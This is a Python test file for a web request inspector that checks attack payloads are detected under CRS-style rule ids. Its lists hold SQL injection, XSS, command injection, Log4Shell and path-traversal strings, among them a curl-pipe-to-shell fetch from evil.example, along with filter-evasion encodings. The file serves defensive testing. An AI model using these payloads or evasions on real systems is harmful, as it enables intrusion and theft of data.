"""Inspection rules, family by family: payloads and their evasions are found under the
expected CRS rule ids at paranoia 1, near-miss benign values are not; the catalog's patterns
keep to what one-value-per-line matching needs; work stays linear on hostile input."""

from __future__ import annotations

import re

import pytest

from proxylog.rules import RequestFacts
from proxylog.rules.inspect import CATALOG, INFO, Inspector, inspector_for
from proxylog.rules.inspect.catalog import Rule
from proxylog.rules.inspect.inspector import MAX_CHARS
from proxylog.rules.inspect.transforms import cmd_form, decode, sql_form

PL1: Inspector = inspector_for(1)
BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0"


def facts(path: str = "/", query: str | None = None, **kw: object) -> RequestFacts:
    base: dict[str, object] = {"method": "GET", "user_agent": BROWSER, "headers": (), "body": None}
    base.update(kw)
    return RequestFacts(
        0.0, "192.0.2.1", path=path, query=query, header_names=frozenset(), host="shop.example", **base
    )  # type: ignore[arg-type]


def families(f: RequestFacts, inspector: Inspector = PL1) -> set[str]:
    return {INFO[i][0] for i in inspector.inspect(f).ids if INFO[i][2] >= 5}


ATTACKS = [
    ("sqli", "q=1'+or+'1'='1"),
    ("sqli", "id=1+UNION+ALL+SELECT+username,password+FROM+users--"),
    ("sqli", "id=1%20AND%20SLEEP(5)"),
    ("sqli", "user=admin'--"),
    ("sqli", "id=1;DROP+TABLE+users"),
    ("sqli", "id=1'%20AND%20extractvalue(1,concat(0x7e,version()))--"),
    ("sqli", "var=1234+OR+1=1"),
    ("sqli", "q=1'+OR+'1'='x'#"),
    ("nosql", "user[$ne]=admin"),
    ("xss", "q=<script>alert(1)</script>"),
    ("xss", "q=<img+src=x+onerror=alert(document.cookie)>"),
    ("xss", "q=%22%3E%3Csvg/onload=alert(1)%3E"),
    ("xss", "u=javascript:alert(1)"),
    ("rce", "host=127.0.0.1;cat+/etc/passwd"),
    ("rce", "c=;lastlog"),
    ("rce", "c=%7C%7Cwhoami"),
    ("rce", "c=$(curl+http://evil.example/x.sh|sh)"),
    ("rce", "c=Invoke-WebRequest+http://evil.example/a.ps1"),
    ("php", "code=<?php+system($_GET['c']);+?>"),
    ("php", "f=php://filter/convert.base64-encode/resource=index.php"),
    ("java", "x=${jndi:ldap://evil.example/a}"),
    ("java", "x=java.lang.Runtime.getRuntime().exec('id')"),
    ("lfi", "file=../../../../etc/passwd"),
    ("lfi", "file=..%2f..%2f..%2fetc%2fshadow"),
    ("rfi", "src=http://66.240.183.75/crash.php"),
    ("generic", "x=this.constructor.constructor('return+process')()"),
    ("generic", "x=_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"),
    ("generic", "__proto__[admin]=1"),
    ("generic", "name={{7*7}}"),
    ("protocol", "a=%0d%0aSet-Cookie:+sid=evil"),
    ("protocol", "a=%0aPOST+/+HTTP/1.1"),
    ("session-fixation", "x=%3Cscript%3Edocument.cookie=%22sid=1;expires=Fri%22%3C/script%3E"),
]


@pytest.mark.parametrize(("family", "query"), ATTACKS)
def test_payloads_are_found_in_their_family(family: str, query: str) -> None:
    """Each payload scores critical in its family at paranoia 1."""
    assert family in families(facts("/search", query))


EVASIONS = [
    ("sqli", "q=%2527%2520or%25201%253D1--"),  # double URL encoding
    ("sqli", "q=1/**/UNION/**/SELECT/**/1,2"),  # comments as spaces
    ("sqli", "q=1+/*!50000UNION*/+/*!50000SELECT*/+1"),  # MySQL versioned comments
    ("sqli", "q=1+UnIoN+sElEcT+1"),  # case mixing
    ("xss", "q=%u003cscript%u003ealert(1)%u003c/script%u003e"),  # %u encoding
    ("xss", "q=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B/script%26gt%3B"),  # HTML entities
    ("xss", "q=%26%2360%3Bsvg+onload%3Dalert(1)%26%2362%3B"),  # numeric entities
    ("rce", "c=;cat+/etc/pa%5Cssw%5Cd"),  # backslashes inside a shell word
    ("rce", "c=;c''at+/e''tc/pas''swd"),  # quotes inside a shell word
    ("rce", "c=;c[a]t+/et[c]/passwd"),  # bracket tricks
    ("rce", "c=;cat${IFS}/etc/passwd"),  # $IFS as a space
    ("rce", "c=;/???/c?t+/e??/p??swd"),  # globbing
    ("lfi", "f=..%c0%af..%c0%af..%c0%afetc/passwd"),  # overlong UTF-8 slash
    ("lfi", "f=%252e%252e%252f%252e%252e%252fetc%252fpasswd"),  # double-encoded dots
    ("java", "x=${${lower:j}${::-n}di:ldap://evil.example/a}"),  # Log4Shell lookups
]


@pytest.mark.parametrize(("family", "query"), EVASIONS)
def test_evasions_are_undone(family: str, query: str) -> None:
    """The transformations undo each evasion, so the payload still scores in its family."""
    assert family in families(facts("/search", query))


BENIGN = [
    "q=red+shoes+size+42",
    "q=O%27Reilly+books",
    "q=tom+%26+jerry",
    "q=select+the+best+option+from+the+list",
    "comment=I+don%27t+like+it%3B+cat+lovers+will+though",
    "q=javascript%3A+the+good+parts",
    "q=100%25+cotton",
    "return_to=https%3A%2F%2Fshop.example%2Fcart%3Fstep%3D2",
    "q=1+or+2+items",
    "q=drop+leaf+table",
    "email=bob%2Btest%40example.co.uk",
    "page=2&sort=-price&filter[color][]=red",
    "note=see+%2Fvar%2Flog+for+details",
    "q=c%23+and+c%2B%2B",
]


@pytest.mark.parametrize("query", BENIGN)
def test_near_miss_benign_values_score_nothing(query: str) -> None:
    """Ordinary values that share words or characters with attacks score nothing at PL1."""
    assert PL1.inspect(facts("/search", query)).ids == ()


def test_headers_and_cookies_are_inspected() -> None:
    """Log4Shell in a User-Agent, XSS in a Referer and SQLi in a cookie value are found."""
    assert "java" in families(facts(user_agent="${jndi:ldap://evil.example/x}"))
    assert "xss" in families(facts(headers=(("referer", "https://x.example/<script>alert(1)</script>"),)))
    assert "sqli" in families(facts(headers=(("cookie", "pref=1' or '1'='1"),)))


def test_bodies_are_inspected_by_content_type() -> None:
    """Form, JSON and multipart bodies are parsed into values; JSON keys are names."""
    form = facts(
        "/login", method="POST", body=b"user=admin'--&pw=x", content_type="application/x-www-form-urlencoded"
    )
    js = facts(
        "/api",
        method="POST",
        body=b'{"user": {"$ne": null}, "q": "1 union select 1"}',
        content_type="application/json",
    )
    multi = facts(
        "/up",
        method="POST",
        body=b'--b\r\nContent-Disposition: form-data; name="c"\r\n\r\n;cat /etc/passwd\r\n--b--\r\n',
        content_type="multipart/form-data; boundary=b",
    )
    assert "sqli" in families(form)
    assert {"nosql", "sqli"} <= families(js)
    assert "rce" in families(multi)


def test_paranoia_two_adds_rules() -> None:
    """A lone quote is a PL2 probe: nothing at PL1, a critical match at PL2."""
    probe = facts("/item", "id=%27")
    assert PL1.inspect(probe).ids == ()
    assert "sqli" in families(probe, inspector_for(2))


def test_protocol_checks() -> None:
    """Odd methods, GET with a body, NUL bytes and session ids without a Referer are found."""
    assert 911100 in PL1.inspect(facts(method="TRACK")).ids
    assert 920170 in PL1.inspect(facts(body=b"x=1")).ids
    assert 920270 in PL1.inspect(facts("/f", "name=a%00.php")).ids
    assert 943120 in PL1.inspect(facts("/", "_session_id=abc")).ids
    ok = facts("/", "_session_id=abc", headers=(("referer", "https://shop.example/"),))
    assert 943110 not in PL1.inspect(ok).ids and 943120 not in PL1.inspect(ok).ids


def test_transforms() -> None:
    """The forms: decoded and lower-cased; SQL comments out; shell quoting out."""
    assert decode("%2541%2Bb+c").plain == "a+b c"
    assert sql_form("union/**/select/*!50000 x*/") == "union select x"
    assert cmd_form("c\\a't' /etc/pa\"ss\"wd") == "cat/etc/passwd"


HOSTILE = [
    "%25" * 5000,
    "&amp;" * 3000,
    "/*" * 8000,
    "a&" * 8000,
    "'" * 6000 + " or " + "(" * 6000,
    "%u0025" * 3000,
    "${" * 8000,
    "<a " * 5000,
]


@pytest.mark.parametrize("payload", HOSTILE)
def test_work_is_linear_in_the_request_size(payload: str) -> None:
    """Hostile input costs at most a constant times its size: characters matched stay
    within 4x the input (plain, sql and cmd forms and the values' separators), and
    nothing beyond the per-request budget is inspected."""
    query = "q=" + payload
    body = payload.encode()
    found = PL1.inspect(facts("/x", query, method="POST", body=body, content_type="text/plain"))
    assert found.work <= 4 * (len(query) + len(body)) + 64
    assert found.work <= 4 * MAX_CHARS


def test_budget_cuts_oversized_requests() -> None:
    """A request with more than the budget of values says it was cut."""
    huge = facts("/x", "&".join(f"a{i}=v" for i in range(5000)))
    assert PL1.inspect(huge).cut


_BAD = re.compile(r"\\[sWDHVN]|\(\?s")


def _negated_classes(pattern: str) -> list[str]:
    """The bodies of the pattern's ``[^...]`` classes (escapes honoured)."""
    found, i = [], 0
    while (i := pattern.find("[^", i)) >= 0:
        if i and pattern[i - 1] == "\\":
            i += 2
            continue
        j = i + 2
        while j < len(pattern) and pattern[j] != "]":
            j += 2 if pattern[j] == "\\" else 1
        found.append(pattern[i + 2 : j])
        i = j
    return found


@pytest.mark.parametrize("rule", CATALOG, ids=lambda r: str(r.id))
def test_patterns_never_cross_a_value(rule: Rule) -> None:
    """Values are matched one per line: no pattern may use a class that matches a newline."""
    assert not _BAD.search(rule.pattern), rule.pattern
    assert all("\\n" in body for body in _negated_classes(rule.pattern)), rule.pattern


def test_ids_are_unique_and_in_crs_ranges() -> None:
    """Every id is used once, and lies in the CRS range of its family."""
    ids = [r.id for r in CATALOG]
    assert len(ids) == len(set(ids))
    ranges = {"sqli": 942, "nosql": 942, "xss": 941, "rce": 932, "php": 933, "java": 944, "lfi": 930,
              "rfi": 931, "session-fixation": 943, "protocol": 921, "generic": 934}  # fmt: skip
    assert all(r.id // 1000 == ranges[r.family] for r in CATALOG)
